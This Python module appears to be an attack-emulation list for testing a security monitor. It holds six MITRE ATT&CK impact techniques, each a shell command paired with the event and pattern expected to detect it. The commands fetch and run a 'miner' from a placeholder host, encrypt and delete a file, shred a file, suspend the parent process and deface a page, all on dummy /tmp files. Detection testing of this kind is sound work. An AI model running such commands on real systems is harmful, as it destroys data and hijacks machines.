"""Harm."""

from attacks.attack import Attack as A
from attacks.places import WEB
from node import OUTSIDE

ATTACKS = [
    A(
        "T1496.001",
        "a miner",
        f"curl -s -o /tmp/miner {WEB}/tool && chmod +x /tmp/miner && /tmp/miner {OUTSIDE} 3333",
        ("connect", r":3333$"),
    ),
    A(
        "T1486",
        "files are encrypted",
        "echo data >/tmp/f && openssl enc -aes-256-cbc -k x -pbkdf2 -in /tmp/f -out /tmp/f.locked && rm /tmp/f",
        ("exec", r"/openssl$"),
    ),
    A("T1485", "files are overwritten", "echo data >/tmp/g && shred -u /tmp/g", ("exec", r"/shred$")),
    A(
        "T1499.001",
        "processes without end, nearly",
        "i=0; while [ $i -lt 60 ]; do /bin/true; i=$((i+1)); done",
        ("exec", r"/true$"),
    ),
    A(
        "T1489",
        "the service is stopped for a moment",
        "kill -STOP $PPID; sleep 0.15; kill -CONT $PPID",
        ("exec", r"/sleep$"),
    ),
    A(
        "T1491.001",
        "a page is defaced",
        "mkdir -p /tmp/www && echo owned >/tmp/www/index.html",
        ("open", r"/index\.html$"),
    ),
]
